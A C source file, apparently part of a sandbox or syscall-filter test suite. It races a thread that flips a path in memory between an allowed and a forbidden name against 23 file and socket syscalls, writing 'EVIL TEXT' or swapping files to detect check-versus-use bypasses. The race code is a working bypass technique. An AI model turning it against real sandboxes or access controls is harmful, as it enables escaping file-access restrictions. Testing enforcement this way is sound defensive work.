/* A path in memory that changes between an open name and a closed one while a call reads it:
 * path CALL OPEN CLOSED SECONDS. Where the names differ within eight bytes, they change in one store. */
#include "attack.h"

static char memory[512] __attribute__((aligned(64)));
static char *path;
static const char *names[2];
static uint64_t *word, words[2];

static void place(const char *open, const char *shut) {
    size_t first = 0, length = strlen(open) + 1;
    names[0] = open, names[1] = shut;
    while (open[first] == shut[first]) first++;
    path = memory + 256 - first; /* So the first byte that differs is aligned. */
    word = (uint64_t *)(memory + 256);
    if (strlen(shut) + 1 != length || (length > first + 8 && strcmp(open + first + 8, shut + first + 8))) word = NULL;
    for (int i = 1; i >= 0 && word; i--) {
        strcpy(path, names[i]);
        words[i] = *word;
    }
    strcpy(path, open);
}

static void *flip(void *unused) {
    for (unsigned i = 0; !stop; i++) {
        if (word) __atomic_store_n(word, words[i & 1], __ATOMIC_RELAXED);
        else strcpy(path, names[i & 1]);
        for (volatile int pause = 0; pause < (int)(i % 97); pause++) {}
    }
    return unused;
}

static void open_read(void) { look(open(path, O_RDONLY)); }
static void openat_read(void) { look(syscall(SYS_openat, AT_FDCWD, path, O_RDONLY, 0)); }
static void openat2_read(void) {
    uint64_t how[3] = {0};
    look(syscall(SYS_openat2, AT_FDCWD, path, how, sizeof how));
}
static void open_path(void) {
    char link[64];
    int fd = open(path, O_PATH);
    sprintf(link, "/proc/self/fd/%d", fd);
    look(open(link, O_RDONLY));
    close(fd);
}
static void open_write(void) {
    int fd = open(path, O_WRONLY);
    count(fd < 0 ? -1 : write(fd, "EVIL TEXT", 9));
    close(fd);
}
static void open_truncate(void) { close(open(path, O_RDONLY | O_TRUNC)), allowed++; }
static void create(void) {
    int fd = open(path, O_WRONLY | O_CREAT, 0600);
    count(fd);
    close(fd);
}
static void creat_it(void) {
    int fd = creat(path, 0600);
    count(fd);
    close(fd);
}
static void truncate_it(void) { count(truncate(path, 3)); }
static void unlink_it(void) {
    fill(names[0], "open");
    count(unlink(path));
}
static void rename_from(void) {
    fill(names[0], "open");
    count(rename(path, "moved"));
    look(open("moved", O_RDONLY));
}
static void rename_to(void) {
    fill("mine", "EVIL TEXT");
    count(rename("mine", path));
}
static void exchange(void) {
    fill("mine", "open");
    count(syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, "mine", 2));
    look(open("mine", O_RDONLY));
}
static void link_from(void) {
    count(link(path, "linked"));
    look(open("linked", O_RDONLY));
    unlink("linked");
}
static void link_to(void) {
    fill("mine", "EVIL TEXT");
    count(link("mine", path));
    unlink(names[0]);
}
static void symlink_to(void) {
    count(symlink("mine", path));
    unlink(names[0]);
}
static void mkdir_it(void) {
    count(mkdir(path, 0700));
    rmdir(names[0]);
}
static void mknod_it(void) {
    count(mknod(path, S_IFREG | 0600, 0));
    unlink(names[0]);
}
static void chmod_it(void) { count(chmod(path, 0640)); }
static void chown_it(void) { count(chown(path, getuid(), getgid())); }
static void utimes_it(void) { count(utimensat(AT_FDCWD, path, NULL, 0)); }
static void setxattr_it(void) { count(setxattr(path, "user.x", "1", 1, 0)); }
static void bind_it(void) {
    /* The kernel copies the address; here it is the whole of it that changes. */
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    count(bind(s, (struct sockaddr *)&address, sizeof address));
    close(s);
    unlink(names[0]);
}

static const struct {
    const char *name;
    void (*attempt)(void);
} calls[] = {
    {"open-read", open_read}, {"openat-read", openat_read}, {"openat2-read", openat2_read}, {"open-path", open_path},
    {"open-write", open_write}, {"open-truncate", open_truncate}, {"create", create}, {"creat", creat_it},
    {"truncate", truncate_it}, {"unlink", unlink_it}, {"rename-from", rename_from}, {"rename-to", rename_to},
    {"exchange", exchange}, {"link-from", link_from}, {"link-to", link_to}, {"symlink-to", symlink_to},
    {"mkdir", mkdir_it}, {"mknod", mknod_it}, {"chmod", chmod_it}, {"chown", chown_it}, {"utimensat", utimes_it},
    {"setxattr", setxattr_it}, {"bind", bind_it},
};

int main(int argc, char **argv) {
    if (argc != 5) return 2;
    place(argv[2], argv[3]);
    watch(argv[3]);
    for (size_t i = 0; i < sizeof calls / sizeof *calls; i++)
        if (strcmp(calls[i].name, argv[1]) == 0) return attack(atof(argv[4]), flip, calls[i].attempt);
    return 2;
}
